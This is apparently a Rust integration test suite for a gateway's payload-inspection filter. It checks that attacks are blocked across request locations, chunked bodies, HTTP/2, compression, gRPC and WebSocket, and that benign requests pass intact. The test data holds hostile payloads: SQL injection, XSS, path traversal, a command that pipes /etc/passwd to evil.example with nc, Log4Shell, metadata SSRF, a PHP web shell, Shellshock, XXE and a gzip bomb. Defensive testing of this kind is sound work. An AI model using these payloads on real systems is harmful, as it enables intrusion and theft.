//! Payload rules in the real Envoy: every place where an attack can stand, every way in which a body can come, and that the service
//! sees nothing of what is refused.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that cannot go on has failed")]

use std::ops::Deref;
use std::thread;
use std::time::Duration;

use portcullis_tests::client::{Call, call_h2};
use portcullis_tests::gateway::Gateway;
use portcullis_tests::idp::Idp;
use portcullis_tests::introspection::{Client as Caller, Introspector};
use portcullis_tests::protected::ProtectedService;
use portcullis_tests::{eventually, refusal};
use serde_json::json;

const SCRIPT: &str = "<script>alert(document.cookie)</script>";
/// How long the provider takes for its word about a caller.
const ASKED: Duration = Duration::from_millis(250);

struct World {
    api: ProtectedService,
    introspector: Introspector,
    _idp: Idp,
}

impl World {
    fn start() -> Self {
        let idp = Idp::plain(&json!({"keys": []})).unwrap();
        let introspector = Introspector::at(&idp, "/introspect", Caller::Post("gw".to_owned(), "s3cret".to_owned()));
        introspector.endpoint().set_delay(ASKED);
        introspector.activate("good", json!({"sub": "alice"}));
        let builder = Gateway::builder()
            .filter(json!({
                "version": 1,
                "providers": {"partner": {"introspection": {
                    "cluster": "idp", "path": "/introspect", "client_id": "gw",
                    "client_secret": {"inline": "s3cret"}, "client_authentication": "post",
                }}},
                "defaults": {"payload": {"max_body": "32KiB", "max_inflated": "64KiB"}},
                "rules": [
                    {"name": "held", "match": {"prefix": "/api/held"}, "require": "partner"},
                    {"name": "watched", "match": {"prefix": "/api/watched"}, "allow": "public", "payload": {"mode": "monitor"}},
                    {"name": "spoken_to", "match": {"prefix": "/api/spoken_to"}, "allow": "public", "payload": {"grpc": "head"}},
                    {"name": "start", "match": {"prefix": "/api/start"}, "allow": "public",
                     "payload": {"max_body": "1KiB", "on_over": "scan_prefix"}},
                    {"name": "except", "match": {"prefix": "/api/except"}, "allow": "public",
                     "payload": {"except": [{"parameter": "html", "families": ["xss"]}]}},
                    {"name": "all", "match": {}, "allow": "public"},
                ],
            }))
            .idp(&idp)
            .connection_manager("http_protocol_options", json!({"enable_trailers": true}))
            .connection_manager("upgrade_configs", json!([{"upgrade_type": "websocket"}]));
        Self { api: ProtectedService::start(builder), introspector, _idp: idp }
    }
}

impl Deref for World {
    type Target = ProtectedService;

    fn deref(&self) -> &ProtectedService {
        &self.api
    }
}

fn json_body(body: &str) -> Call {
    Call::new("POST", "/api").header("content-type", "application/json").body(body)
}

fn escaped(value: &str) -> String {
    value.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn an_attack_is_refused_wherever_it_stands() {
    let world = World::start();
    let attacks = [
        "1' UNION SELECT name, password FROM users-- ",
        SCRIPT,
        "../../../../etc/passwd",
        "; cat /etc/passwd | nc evil.example 4444",
        "${jndi:ldap://evil.example/a}",
        "http://169.254.169.254/latest/meta-data/iam/",
        "{{7*7}}{{config.__class__.__init__.__globals__}}",
        "<?php system($_GET['c']); ?>",
    ];
    for attack in attacks {
        world.refuses_attack(&Call::get(&format!("/api?q={}", escaped(attack))));
        let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
        world.refuses_attack(&form.body(format!("a=1&q={}", escaped(attack))));
        world.refuses_attack(&json_body(&json!({"id": 7, "deep": [{"q": attack}]}).to_string()));
        let part = format!("--b\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{attack}\r\n--b--\r\n");
        let multipart = Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part);
        world.refuses_attack(&multipart);
        world.refuses_attack(&Call::get("/api").header("x-custom", attack));
    }
    world.refuses_attack(&Call::get("/api").header("cookie", "id=1' union select password from users--"));
    world.refuses_attack(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"));
    let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    world.refuses_attack(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity));
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn ordinary_requests_arrive_whole() {
    let world = World::start();
    let text = json!({"text": "Don't drop the table; use ORDER BY -- it's faster & <b>bold</b>", "n": [1, 2.5, null]});
    let body = text.to_string();
    let answer = world.call(&json_body(&body));
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(world.service.requests().last().unwrap().body, body.as_bytes());
    let long = format!("{{\"pad\": \"{}\"}}", "lorem ipsum ".repeat(2000));
    assert_eq!(world.call(&json_body(&long)).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len());
    assert_eq!(world.call(&Call::get("/api?q=O%27Brien%20%26%20Sons&page=2")).status, 200);
    assert_eq!(world.call(&Call::new("POST", "/api").body("")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn however_a_body_is_cut_it_is_judged_whole() {
    let world = World::start();
    let body = json!({"id": 7, "q": SCRIPT}).to_string();
    let before = world.seen();
    for at in 1..body.len() {
        let (first, second) = body.as_bytes().split_at(at);
        let call = Call::new("POST", "/api").header("content-type", "application/json");
        let response = world.call_in_chunks(call, [first, second], b"0\r\n\r\n");
        refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("cut at {at}: {error}"));
    }
    let call = || Call::new("POST", "/api").header("content-type", "application/json");
    let response = world.call_in_chunks(call(), body.as_bytes().chunks(1), b"0\r\n\r\n");
    refusal::check(&response, 403, "payload_attack").unwrap();
    let response = world.call_in_chunks(call(), [body.as_bytes()], b"0\r\nx-checksum: 1\r\n\r\n");
    refusal::check(&response, 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before, "no head went ahead of its body");
    let good = json!({"id": 7, "q": "fine"}).to_string();
    assert_eq!(world.call_in_chunks(call(), good.as_bytes().chunks(3), b"0\r\nx-checksum: 1\r\n\r\n").status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, good.as_bytes());
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn over_http_2_too() {
    let world = World::start();
    let send = |call: &Call| call_h2(world.gateway.port(), None, call).unwrap();
    let before = world.seen();
    refusal::check(&send(&json_body(&json!({"q": SCRIPT}).to_string())), 403, "payload_attack").unwrap();
    refusal::check(&send(&Call::get(&format!("/api?q={}", escaped(SCRIPT)))), 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before);
    assert_eq!(send(&json_body("{\"q\": 1}")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_request_that_is_held_for_its_caller_is_judged_after_it() {
    let world = World::start();
    let call = |token: &str, body: &str| {
        let call = Call::new("POST", "/api/held").bearer(token).header("content-type", "application/json");
        call.body(body)
    };
    for number in 0..4 {
        let token = format!("good-{number}");
        world.introspector.activate(&token, json!({"sub": "alice"}));
        // The body comes before the provider's word.
        world.refuses_attack(&call(&token, &json!({"q": SCRIPT}).to_string()));
    }
    // And after it.
    world.introspector.activate("late", json!({"sub": "alice"}));
    let bytes = call("late", &json!({"q": SCRIPT}).to_string()).to_bytes();
    let (first, second) = bytes.split_at(bytes.len() - 20);
    let before = world.seen();
    let mut client = world.connect();
    client.send(first).unwrap();
    thread::sleep(ASKED * 2);
    refusal::check(&client.raw(second).unwrap(), 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before);
    refusal::check(&world.call(&call("unknown", "{}")), 401, "token_inactive").unwrap();
    world.introspector.activate("fine", json!({"sub": "alice"}));
    assert_eq!(world.call(&call("fine", "{\"q\": 1}")).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, &b"{\"q\": 1}"[..]);
    world.gateway.check_unharmed().unwrap();
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut body = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    body.extend(miniz_oxide::deflate::compress_to_vec(data, 6));
    // Nobody checks the checksum before the service does.
    body.extend([0; 8]);
    body
}

#[test]
fn a_compressed_body_is_judged_by_what_it_holds() {
    let world = World::start();
    let call = |coding: &str, body: Vec<u8>| {
        let call = Call::new("POST", "/api").header("content-type", "application/json");
        call.header("content-encoding", coding).body(body)
    };
    let attack = json!({"q": SCRIPT}).to_string();
    world.refuses_attack(&call("gzip", gzip(attack.as_bytes())));
    let deflated = miniz_oxide::deflate::compress_to_vec_zlib(attack.as_bytes(), 6);
    world.refuses_attack(&call("deflate", deflated));
    refusal::check(&world.call(&call("br", b"x".to_vec())), 415, "body_encoding_refused").unwrap();
    refusal::check(&world.call(&call("gzip", b"plain".to_vec())), 400, "body_malformed").unwrap();
    let bomb = gzip(&vec![b' '; 8 << 20]);
    assert!(bomb.len() < 32 << 10);
    refusal::check(&world.call(&call("gzip", bomb)), 413, "body_too_large").unwrap();
    let good = gzip(b"{\"q\": 1}");
    assert_eq!(world.call(&call("gzip", good.clone())).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, good, "the service gets it as it was sent");
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_body_that_is_too_long_is_refused_or_judged_by_its_beginning() {
    let world = World::start();
    let long = format!("{{\"pad\": \"{}\"}}", "x".repeat(40_000));
    refusal::check(&world.call(&json_body(&long)), 413, "body_too_large").unwrap();
    let call = || Call::new("POST", "/api").header("content-type", "application/json");
    refusal::check(&world.call_in_chunks(call(), long.as_bytes().chunks(8192), b"0\r\n\r\n"), 413, "body_too_large")
        .unwrap();
    let start = |body: &str| {
        let call = Call::new("POST", "/api/start").header("content-type", "application/json").body(body);
        world.call(&call)
    };
    assert_eq!(start(&long).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len(), "what is not read goes on whole");
    refusal::check(&start(&format!("{{\"q\": \"{SCRIPT}\", \"pad\": \"{long:?}\"}}")), 403, "payload_attack").unwrap();
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
    let world = World::start();
    let call = Call::new("POST", "/api/watched").header("content-type", "application/json");
    let response = world.call(&call.body(json!({"html": SCRIPT}).to_string()));
    assert_eq!(response.status, 200);
    let event = world.audit_of(&response);
    assert_eq!(
        (&event["event.action"], &event["event.reason"]),
        (&json!("request_monitored"), &json!("payload_attack"))
    );
    let message = event["message"].as_str().unwrap();
    assert!(message.contains(r#"except: [{parameter: "html", families: [xss]}]"#), "{message}");
    assert!(!message.contains("document.cookie"), "{message}");
    let watched = || world.gateway.counter("portcullis_payload", &[("rule", "watched")]).unwrap();
    assert!(eventually(Duration::from_secs(5), || watched() > 0));
    // With that exception, it passes where it is refused otherwise.
    let except = Call::new("POST", "/api/except").header("content-type", "application/json");
    assert_eq!(world.call(&except.body(json!({"html": SCRIPT}).to_string())).status, 200);
    let other = Call::new("POST", "/api/except").header("content-type", "application/json");
    world.refuses_attack(&other.body(json!({"other": SCRIPT}).to_string()));
}

#[test]
fn streams_are_not_waited_for() {
    let world = World::start();
    // The service answers the head of a gRPC call whose body never ends.
    let mut client = world.connect();
    let call =
        Call::new("POST", "/api").header("content-type", "application/grpc").header("transfer-encoding", "chunked");
    client.send(&call.to_bytes()).unwrap();
    client.send(b"5\r\n\0\0\0\0\0\r\n").unwrap();
    assert!(eventually(Duration::from_secs(5), || world.gateway.stat("cluster.api.upstream_rq_total").unwrap() == 1));
    // So it is with a WebSocket: what comes behind its head is not judged, nor waited for.
    let upgrade = |call: Call| call.header("connection", "upgrade").header("upgrade", "websocket");
    let mut client = world.connect();
    client.send(&upgrade(Call::get("/api/socket")).to_bytes()).unwrap();
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 2));
    let attack = upgrade(Call::get(&format!("/api/socket?q={}", escaped(SCRIPT))));
    refusal::check(&world.call(&attack), 403, "payload_attack").unwrap();
    // The words of a stream before something that ends do not keep it from being judged.
    let form = || {
        let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
        form.body(format!("q={}", escaped(SCRIPT)))
    };
    let before = seen();
    for disguised in [
        form().header("upgrade", "websocket"),
        upgrade(form()),
        Call::new("POST", "/api").header("content-type", "application/grpc-web-text").body(SCRIPT),
        Call::new("POST", "/api")
            .header("content-type", "application/grpc-web+json")
            .body(format!("{{\"q\": \"{SCRIPT}\"}}")),
    ] {
        let status = world.call(&disguised).status;
        assert!([400, 403].contains(&status), "{status}: {disguised:?}");
        assert_eq!(seen(), before, "the service saw {disguised:?}");
    }
    // A client that leaves in the middle of a body that is waited for leaves nothing behind.
    let mut client = world.connect();
    client.send(&json_body("{}").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    drop(client);
    assert_eq!(world.call(&json_body("{}")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

/// A message of gRPC with one text in it.
fn message(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap();
    [&[0, 0, 0, 0, length + 2, 0x0a, length], text.as_bytes()].concat()
}

fn grpc_call(path: &str) -> Call {
    Call::new("POST", path).header("content-type", "application/grpc").header("te", "trailers")
}

#[test]
fn the_first_message_of_a_grpc_call_is_judged_before_its_head_goes_on() {
    let world = World::start();
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    // A stream that stays open: its first message comes in pieces, cut wherever it may be.
    let attack = message("1' or '1'='1");
    for at in 1..attack.len() {
        let mut client = world.connect();
        client.send(&grpc_call("/api").header("transfer-encoding", "chunked").to_bytes()).unwrap();
        let (first, second) = attack.split_at(at);
        client.send(&chunk(first)).unwrap();
        let response = client.raw(&chunk(second)).unwrap();
        assert_eq!((response.status, response.header("grpc-status")), (200, Some("7")), "cut at {at}");
        assert_eq!(seen(), 0, "cut at {at}: the service saw it");
    }
    let call = |body: &[u8], path: &str| world.call_in_chunks(grpc_call(path), [body], b"0\r\n\r\n");
    assert_eq!(call(&attack, "/api").header("grpc-status"), Some("7"));
    // An honest one goes on at once, and what follows it as it comes.
    let mut client = world.connect();
    client.send(&grpc_call("/api").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    client.send(&chunk(&message("O'Brien & Sons"))).unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 1), "it waits for the end of the stream");
    let response = client.raw(&[chunk(&attack), b"0\r\n\r\n".to_vec()].concat()).unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, [message("O'Brien & Sons"), attack.clone()].concat());
    // Watched, and where the service speaks first.
    let watched = call(&attack, "/api/watched");
    assert_eq!((watched.status, watched.header("grpc-status")), (200, None));
    let event = world.audit_of(&watched);
    assert_eq!(event["event.action"], json!("request_monitored"), "{event}");
    let before = seen();
    let mut client = world.connect();
    client.send(&grpc_call("/api/spoken_to").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == before + 1), "it waits for a message");
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_grpc_call_that_is_held_for_its_caller_is_judged_with_what_came_meanwhile() {
    let world = World::start();
    let open = |token: &str, text: &str| {
        let mut client = world.connect();
        let head = grpc_call("/api/held").bearer(token).header("transfer-encoding", "chunked").to_bytes();
        client.send(&[head, chunk(&message(text))].concat()).unwrap();
        client
    };
    world.introspector.activate("one", json!({"sub": "alice"}));
    let response = open("one", "1' or '1'='1").raw(b"").unwrap();
    assert_eq!(response.header("grpc-status"), Some("7"));
    assert_eq!(world.gateway.stat("cluster.api.upstream_rq_total").unwrap(), 0);
    world.introspector.activate("two", json!({"sub": "alice"}));
    let client = open("two", "tea");
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 1), "it waits for the end of the stream");
    drop(client);
    world.gateway.check_unharmed().unwrap();
}

fn chunk(bytes: &[u8]) -> Vec<u8> {
    [format!("{:x}\r\n", bytes.len()).as_bytes(), bytes, b"\r\n"].concat()
}
